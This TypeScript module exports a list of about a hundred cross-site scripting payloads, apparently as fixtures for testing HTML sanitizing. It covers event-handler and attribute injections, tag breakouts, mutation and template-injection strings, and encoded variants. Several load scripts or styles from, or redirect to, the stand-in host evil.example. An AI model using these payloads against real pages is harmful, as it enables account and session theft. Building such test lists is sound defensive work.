/** Attacks on pages that put what people typed where it does not belong: a hundred, of every kind that is known to us. */
const tags = ['script', 'img', 'svg', 'iframe', 'body', 'input', 'details', 'video', 'object', 'style'];
const events = ['onload', 'onerror', 'onfocus', 'onmouseover', 'ontoggle'];

const grown = tags.flatMap((tag) => [
  `<${tag} onerror=alert(1) src=x>`,
  `"><${tag} onload=alert(1)>`,
  `'><${tag}/onfocus=alert(1) autofocus>`,
  `</textarea><${tag} onmouseover=alert(1)>`,
  `</title></style></script><${tag}>alert(1)</${tag}>`,
]);
const attributes = events.flatMap((event) => [
  `" ${event}="alert(1)`,
  `' ${event}='alert(1)`,
  `x ${event}=alert(1) y`,
  `" autofocus ${event}=alert(1) "`,
]);
const others = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=//evil.example></script>',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '{% assign x = "<script>" %}{{ x }}',
  '{{ shop.metafields }}',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '\\u003cscript\\u003ealert(1)',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="//evil.example"><button>Go</button></form>',
  '</script><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '＜script＞alert(1)＜/script＞',
  '"-alert(1)-"',
  "';alert(1)//",
];

export const attacks: readonly string[] = [...grown, ...attributes, ...others];
